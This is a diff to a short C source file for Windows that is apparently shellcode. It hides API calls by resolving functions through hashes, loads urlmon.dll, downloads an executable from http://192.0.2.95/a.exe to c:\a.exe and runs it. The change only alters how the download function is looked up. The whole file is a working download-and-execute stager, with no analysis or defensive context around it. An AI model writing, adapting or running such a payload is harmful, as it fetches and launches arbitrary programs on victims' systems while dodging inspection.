@@ -1,15 +1,17 @@
 /* Fetches a program and executes it. */
 #include "windows.h"
 
-typedef byte *CALLED load_library(const char *name);
-typedef long CALLED download(void *caller, const char *from, const char *to, dword zero, void *status);
+typedef long CALLED download(void *caller, const char *from, const char *to, dword zero,
+			     void *status);
 typedef dword CALLED execute(const char *command, dword show);
 
 ENTRY void code(void)
 {
-	char library[] = "urlmon.dll", from[] = "http://192.0.2.95/a.exe", to[] = "c:\\a.exe";
+	char library[] = "urlmon.dll", name[] = "URLDownloadToFileA";
+	char from[] = "http://192.0.2.95/a.exe", to[] = "c:\\a.exe";
+	find_function *find = (find_function *)function_by_hash(FIND_FUNCTION);
+	byte *urlmon = ((load_library *)function_by_hash(LOAD_LIBRARY))(library);
 
-	((load_library *)function_by_hash(LOAD_LIBRARY))(library);
-	((download *)function_by_hash(DOWNLOAD))(0, from, to, 0, 0);
+	((download *)find(urlmon, name))(0, from, to, 0, 0);
 	((execute *)function_by_hash(EXECUTE))(to, 0);
 }
